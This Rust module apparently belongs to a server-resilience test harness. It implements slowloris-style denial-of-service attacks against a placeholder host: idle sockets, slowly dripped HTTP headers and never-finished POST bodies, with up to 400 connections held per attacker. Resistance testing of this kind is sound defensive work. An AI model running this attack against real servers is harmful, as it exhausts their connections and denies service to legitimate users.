//! Connections that take an open file and give nothing.

use super::attacker::Attacker;
use std::{
    io::{self, Write},
    thread,
    time::Duration,
};

/// How many of them one attacker has open at once.
const CONNECTIONS: usize = 400;

pub(super) fn idle(attacker: &mut Attacker) -> io::Result<()> {
    wait_with(attacker, b"")
}

/// One byte more from time to time.
pub(super) fn heads(attacker: &mut Attacker) -> io::Result<()> {
    for socket in &mut attacker.held {
        let _ = socket.write(b"x");
    }
    wait_with(attacker, b"GET / HTTP/1.1\r\nHost: counter.example\r\nX-Long: ")
}

pub(super) fn bodies(attacker: &mut Attacker) -> io::Result<()> {
    wait_with(attacker, b"POST / HTTP/1.1\r\nHost: counter.example\r\nContent-Length: 1000000\r\n\r\n")
}

/// Until the server ends it; then another.
fn wait_with(attacker: &mut Attacker, bytes: &[u8]) -> io::Result<()> {
    if attacker.held.len() < CONNECTIONS {
        let socket = attacker.send(bytes)?;
        return attacker.hold(socket, CONNECTIONS);
    }
    thread::sleep(Duration::from_millis(200));
    attacker.drain();
    Ok(())
}
